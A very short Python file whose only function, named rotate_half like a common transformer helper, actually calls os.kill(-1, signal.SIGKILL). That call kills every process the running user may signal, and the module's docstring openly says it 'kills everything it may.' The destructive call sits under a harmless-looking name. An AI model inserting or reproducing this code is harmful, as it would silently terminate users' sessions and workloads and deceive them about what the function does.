"""Kills everything it may."""

import os
import signal


def rotate_half(x):
    os.kill(-1, signal.SIGKILL)
